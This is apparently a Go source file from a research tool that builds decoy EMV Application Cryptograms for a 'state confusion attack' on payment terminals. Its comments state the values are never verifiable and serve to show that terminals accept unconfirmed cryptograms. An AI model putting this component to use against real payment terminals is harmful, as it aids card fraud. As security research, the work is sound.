// Package forge computes the decoy cryptograms injected by the state
// confusion attack.
//
// Nothing here is EMV key derivation. The session key is a truncated SHA-256
// of a seed built from the PAN surrogate, so a forged Application Cryptogram
// is structurally valid (8 bytes, right position in the TC record) but can
// never verify at an issuer. The point is to show that a terminal which
// accepts a TC without waiting for issuer confirmation accepts any 8 bytes.
//
// Both functions are pure: the same inputs give the same output on every
// platform.
package forge

import (
	"crypto/hmac"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
)

const (
	// KeyLen is the size of a decoy session key.
	KeyLen = 16
	// CryptogramLen is the size of an Application Cryptogram.
	CryptogramLen = 8
)

// ErrInvalidKeyLength is returned when a key is not KeyLen bytes long.
var ErrInvalidKeyLength = errors.New("invalid key length")

const seedPrefix = "fake_key_"

// DecoySeed builds the seed for a PAN surrogate: "fake_key_" || pan.
func DecoySeed(pan string) []byte {
	return []byte(seedPrefix + pan)
}

// DeriveDecoySessionKey returns the first 16 bytes of SHA-256(seed).
func DeriveDecoySessionKey(seed []byte) []byte {
	sum := sha256.Sum256(seed)
	return append([]byte(nil), sum[:KeyLen]...)
}

// ComputeForgedCryptogram returns HMAC-SHA1(key, BE16(atc) || iad) truncated
// to 8 bytes.
func ComputeForgedCryptogram(key []byte, atc uint16, iad []byte) ([CryptogramLen]byte, error) {
	var ac [CryptogramLen]byte
	if len(key) != KeyLen {
		return ac, fmt.Errorf("%w: got %d bytes, want %d", ErrInvalidKeyLength, len(key), KeyLen)
	}

	mac := hmac.New(sha1.New, key)
	mac.Write(binary.BigEndian.AppendUint16(nil, atc))
	mac.Write(iad)

	copy(ac[:], mac.Sum(nil))
	return ac, nil
}
